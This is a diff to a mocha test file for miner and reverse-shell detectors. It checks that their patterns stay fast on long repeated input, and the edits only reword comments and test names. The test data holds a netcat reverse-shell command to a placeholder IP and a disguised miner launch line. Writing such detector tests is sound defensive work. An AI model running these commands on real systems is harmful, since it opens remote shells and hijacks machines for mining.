@@ -7,7 +7,7 @@ import { minerIn } from '../../../shared/detection/miner.ts';
 import { reverseShellIn } from '../../../shared/detection/reverse-shell.ts';
 
 describe('hostile command lines', () => {
-  // Pieces on which a careless pattern starts over at every character.
+  // Pieces that make a careless pattern start again at every character.
   const pieces = [
     'nc ',
     '/dev/tcp/',
@@ -53,8 +53,8 @@ describe('hostile command lines', () => {
   const LONG = 60 * 1024;
 
   for (const piece of pieces) {
-    // A pattern that is quadratic in these does not come back before mocha gives up.
-    it(`hide nothing behind ${JSON.stringify(piece)}, however often it is said`, () => {
+    // A pattern that is quadratic in these exceeds mocha's timeout.
+    it(`hide nothing behind ${JSON.stringify(piece)}, however often repeated`, () => {
       const padding = piece.repeat(Math.ceil(LONG / piece.length));
       assert.notEqual(minerIn(`${padding}\n./kworker --donate-level 1`), undefined);
       assert.notEqual(reverseShellIn(`${padding}\nnc -e /bin/sh 203.0.113.9 4444`), undefined);
@@ -64,7 +64,7 @@ describe('hostile command lines', () => {
     });
   }
 
-  it('are looked at up to a bound', () => {
+  it('are read only up to a limit', () => {
     assert.ok(actingText('x'.repeat(1_000_000)).length < 300_000);
   });
 });
